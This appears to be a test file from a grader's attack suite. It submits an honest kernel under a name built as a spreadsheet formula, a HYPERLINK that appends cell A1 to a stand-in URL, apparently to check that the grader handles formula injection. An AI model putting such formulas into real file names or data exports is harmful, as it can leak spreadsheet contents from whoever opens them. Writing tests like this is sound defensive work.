# expect: passed
"""A name that a spreadsheet would run."""

from pathlib import Path

from grader.attacks.honest import KERNEL

NAME = '=HYPERLINK("http:,,x"&A1,"grade")'


def hand_in(folder: Path) -> None:
    (folder / "kernel.cu").write_text(KERNEL)
